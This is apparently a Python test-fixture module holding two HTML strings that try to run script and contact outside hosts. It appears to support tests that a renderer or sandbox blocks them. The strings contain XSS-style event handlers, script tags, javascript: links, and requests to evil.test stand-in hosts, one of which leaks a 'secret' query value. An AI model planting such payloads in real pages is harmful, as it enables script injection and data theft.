"""Pages of HTML that try to act, and to reach other hosts."""

from __future__ import annotations

PAGE = """```html
<!DOCTYPE html>
<html><head><meta http-equiv="refresh" content="0;url=http://evil.test/refreshed">
<link rel="stylesheet" href="http://evil.test/a.css"><style>h1 { color: teal }</style></head>
<body onload="parent.acted()"><h1>Sales by region</h1><img src=x onerror=parent.acted()>
<script>parent.acted()</script><img src="http://evil.test/?secret">
<iframe src="http://evil.test/inner"></iframe><a href="javascript:parent.acted()">more</a>
<table><tr><td>north</td><td>12</td></tr></table></body></html>
```"""
CONNECTING = """<!DOCTYPE html>
<link rel=preconnect href=https://a.evil.test><link rel=dns-prefetch href=//b.evil.test>
<img src=http://c.evil.test/><script>fetch("http://d.evil.test/").catch(() => 0);
new WebSocket("ws://e.evil.test/"); navigator.sendBeacon("http://f.evil.test/", "x")</script>
<iframe sandbox srcdoc="<link rel=preconnect href=https://g.evil.test>"></iframe>
<link rel=stylesheet href=http://h.evil.test/><a href=http://a-link-alone.test>x</a>"""
